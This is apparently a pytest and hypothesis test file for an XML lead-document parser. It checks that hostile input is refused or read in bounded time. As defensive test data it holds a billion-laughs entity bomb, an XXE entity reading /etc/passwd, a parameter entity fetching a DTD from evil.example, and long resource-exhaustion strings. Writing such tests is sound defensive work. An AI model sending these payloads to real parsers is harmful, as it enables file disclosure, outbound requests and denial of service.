"""A hostile document costs nothing: it is refused with the reason, or read in bounded time."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ortoo_daemon.intake.adf.model import Refusal
from ortoo_daemon.intake.adf.reading import LONGEST, read_adf
from tests.intake.adf.samples import document, prospect

BOMB = """<?xml version="1.0"?><!DOCTYPE adf [
<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
]>"""
EXTERNAL = '<!DOCTYPE adf [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE adf [<!ENTITY % more SYSTEM "http://evil.example/more.dtd"> %more;]>'


@pytest.mark.parametrize(
    "head", [BOMB, EXTERNAL, PARAMETER, BOMB.lower(), BOMB.replace("<!", "<! ")]
)
def test_a_document_that_declares_entities_is_refused(head: str) -> None:
    text = head + document(prospect()).replace("Please", "&c;&secret;")
    read = read_adf(text)
    assert (read.refusal, read.prospects) == (Refusal.ENTITIES, ())


def test_declarations_in_another_encoding_are_refused_too() -> None:
    assert read_adf((BOMB + document()).encode("utf-16")).refusal is Refusal.ENTITIES


def test_an_entity_that_nobody_declared_stays_text() -> None:
    (found,) = read_adf(document().replace("Please call", "&secret;")).prospects
    assert found.customer.comments == "&secret; after six."


def test_what_is_too_long_is_not_looked_at() -> None:
    assert read_adf(document() + " " * LONGEST).refusal is Refusal.TOO_LARGE


def test_what_is_too_deep_is_refused() -> None:
    text = "<adf><prospect>" + "<vehicle><option>" * 40
    assert read_adf(text).refusal in (Refusal.TOO_DEEP, Refusal.NOTHING_IN_IT)
    deep = "<adf>" + "<prospect><customer><contact><address>" * 2000 + "</adf>"
    assert read_adf(deep).refusal is not None


def test_too_many_elements_are_refused() -> None:
    text = "<adf><prospect>" + "<id>1</id>" * 25_000
    assert read_adf(text).refusal is Refusal.TOO_MANY_ELEMENTS


def test_a_document_of_nothing_is_refused_with_the_reason() -> None:
    assert read_adf('<?xml version="1.0"?><?adf version="1.0"?>').refusal is Refusal.NO_PROSPECT
    assert read_adf("<adf></adf>").refusal is Refusal.NO_PROSPECT
    blank = read_adf("<adf><prospect><vehicle/><customer/></prospect></adf>")
    assert blank.refusal is Refusal.NOTHING_IN_IT
    assert blank.message == "the document names no customer and no vehicle"


HOSTILE = (
    "<" * 900_000,
    "<!--" * 200_000,
    "<![CDATA[" * 100_000,
    "<adf " + "a=\"" * 200_000,
    "<adf>" + "<a " * 200_000,
    "<adf>" + "&" * 900_000,
    "<adf>" + "&lt" * 250_000,
    "<adf>" + "</x>" * 200_000,
    "<adf><prospect><comments>" + "<br>" * 200_000,
    "<adf>" + " " * 900_000,
    "<?" * 400_000,
    "<adf " + "a" * 900_000,
    "<adf>" + "<prospect" * 100_000,
    "&lt;adf" * 120_000,
    "<!doctype" * 100_000,
)  # fmt: skip


@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_a_hostile_text_takes_no_longer_than_its_length(number: int) -> None:
    before = time.process_time()
    read_adf(HOSTILE[number])
    assert time.process_time() - before < 10


PIECES = st.sampled_from(
    ["<adf>", "</adf>", "<prospect status=", "<vehicle interest='buy'>", "<year>20", "</vehicle>", "<!--",
     "-->", "<![CDATA[", "]]>", "&amp;", "&", "<", ">", "\"", "'", "<name part=\"first\">", "<customer>",
     "<contact>", "</", "<?xml ", "?>", "\x00", "\ud800", "é", "2026-11-23", "<!DOCTYPE adf", "&lt;adf&gt;"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES | st.text(max_size=8), max_size=40))
def test_no_text_whatever_makes_reading_fail(pieces: list[str]) -> None:
    read_adf("".join(pieces))


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300))
def test_no_bytes_whatever_make_reading_fail(data: bytes) -> None:
    read_adf(b"<adf><prospect>" + data)
